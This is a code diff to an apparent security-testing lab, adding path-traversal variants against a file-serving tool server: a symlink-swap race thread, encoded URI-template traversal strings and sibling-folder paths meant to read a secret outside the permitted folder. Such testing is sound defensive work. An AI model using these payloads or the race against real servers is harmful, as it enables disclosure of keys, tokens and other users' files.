@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import json
+import os
+import threading
+from contextlib import contextmanager
 from typing import TYPE_CHECKING, Any
 
 from doorward.lab import git_repository, oracles
@@ -21,12 +24,22 @@ from doorward.lab.scenario import (
 from doorward.lab.targets import published, python, script
 
 if TYPE_CHECKING:
+    from collections.abc import Iterator
     from pathlib import Path
 
     from doorward.lab.stage import Stage
 
 PUBLISHED = "server-filesystem-2025.3.28"
 NOTE = "minutes.txt"
+
+SWAPPED = "swapped"
+DRAFT, SECRET = "draft.txt", "../outside/secret.txt"
+BUNDLED, BUNDLES = 1000, 20
+"""So often one bundle means the link, which takes the server tens of milliseconds, and so many bundles at most. Bare,
+the first is enough nearly always; of 400 races on two cores that four others want, one took six.
+"""
+SWAP_SECONDS = 0.001
+"""Whoever waits a moment gets his turn while the server works, also where there is one core for both."""
 
 
 def furnish(work: Path, greeting: str) -> None:
@@ -88,8 +101,41 @@ NOTES = Target(
 [servers.workspace-notes.tools.open_note.arguments.path]
 path_below = "{work}"
 """,
-    tools=("open_note",),
+    tools=("open_note", "bundle_notes"),
 )
+
+
+@contextmanager
+def _swapping(link: Path) -> Iterator[None]:
+    """Somebody else who may write in the workspace lets ``link`` lead to the note and to the secret, in turn."""
+    over, fresh = threading.Event(), link.with_name(f".{link.name}")
+
+    def swap() -> None:
+        while not over.is_set():
+            for where in (NOTE, SECRET):
+                fresh.symlink_to(where)
+                os.replace(fresh, link)
+                over.wait(SWAP_SECONDS)
+
+    link.symlink_to(NOTE)
+    swapper = threading.Thread(target=swap)
+    swapper.start()
+    try:
+        yield
+    finally:
+        over.set()
+        swapper.join()
+        link.unlink()
+
+
+async def _race(stage: Stage) -> None:
+    """Ask for what the link leads to, until it was the secret: whoever is after one knows it when he reads it."""
+    asked = {"name": "bundle_notes", "arguments": {"names": [DRAFT] * BUNDLED}}
+    with _swapping(stage.layout.work / DRAFT):
+        for _ in range(BUNDLES):
+            answer = await stage.ask("tools/call", asked)
+            if answer is None or oracles.arrived([answer], stage.canary):
+                return
 
 
 class PathTraversal(Scenario):
@@ -99,12 +145,14 @@ class PathTraversal(Scenario):
         Read a file that the server was never given, through a server that was given one folder.
     Attacker:
         A client, or whoever makes a user's client ask: a prompt, a document with a link, a cloned repository that
-        brings a symbolic link.
+        brings a symbolic link, or a program of it that swaps one while the server looks.
     Steps:
         1. A secret lies beside the server's folder, behind a link in it, and in a sibling that shares its name's start.
         2. The attacker sends a URI or a path argument that means the secret, once for each way to write it. The lines
            are raw, since the URL types of clients would tidy them up.
-        3. The server compares strings, decodes, and opens the file.
+        3. The server compares strings, decodes, and opens the file; or it fills what it got into a template and joins
+           that to its folder.
+        4. Or it looks where a link leads before it opens it, and in between the link comes to lead elsewhere.
     Impact:
         Disclosure of any file that the server's process may read: keys, tokens, other users' work.
     Remedy:
@@ -174,11 +222,17 @@ class PathTraversal(Scenario):
                 _call("tool-dot-dot", "inside a tool argument", "open_note", "../outside/secret.txt"),
                 _call("tool-sibling", "a sibling inside a tool argument", "open_note", "{work}-evil/secret.txt"),
                 _call("tool-symlink", "a link inside a tool argument", "open_note", "latest.txt", BEHIND),
+                _resource("template", "what a template is filled with climbs out", "notes://..%2Foutside%2Fsecret.txt"),
+                _resource("template-root", "it begins at the root", "notes://{outside}/secret.txt"),
+                Variant("swapped", "a link that changes while the server looks", SWAPPED, BEHIND),
             ),
         ),
     )
 
     async def attack(self, stage: Stage, variant: Variant) -> None:
+        if variant.payload == SWAPPED:
+            await _race(stage)
+            return
         steps = variant.payload if isinstance(variant.payload, list) else [variant.payload]
         for step in stage.filled(steps):
             await stage.ask(step["method"], step["params"])
@@ -192,10 +246,13 @@ class PathTraversal(Scenario):
         uri = next((r.uri for r in listed.resources if r.uri.endswith(NOTE)), "")
         read: Any = await stage.client.read_resource(uri)
         called: Any = await stage.client.call_tool("open_note", {"path": NOTE})
-        for text in (read.contents[0].text, called.content[0].text):
-            if stage.greeting not in text:
-                raise BenignTwinBrokenError(f"the note did not arrive, but {json.dumps(text)}")
-        return f"resources/read and open_note gave {NOTE}"
+        templates = (await stage.client.list_resource_templates()).resource_templates
+        by_name: Any = await stage.client.read_resource(templates[0].uri_template.replace("{name}", NOTE))
+        bundle: Any = await stage.client.call_tool("bundle_notes", {"names": [NOTE, NOTE]})
+        for answer in (*read.contents, *called.content, *by_name.contents, *bundle.content):
+            if stage.greeting not in answer.text:
+                raise BenignTwinBrokenError(f"the note did not arrive, but {json.dumps(answer.text)}")
+        return f"resources/read gave {NOTE} by its path and by its name, open_note and bundle_notes gave it too"
 
 
 SCENARIO = PathTraversal()
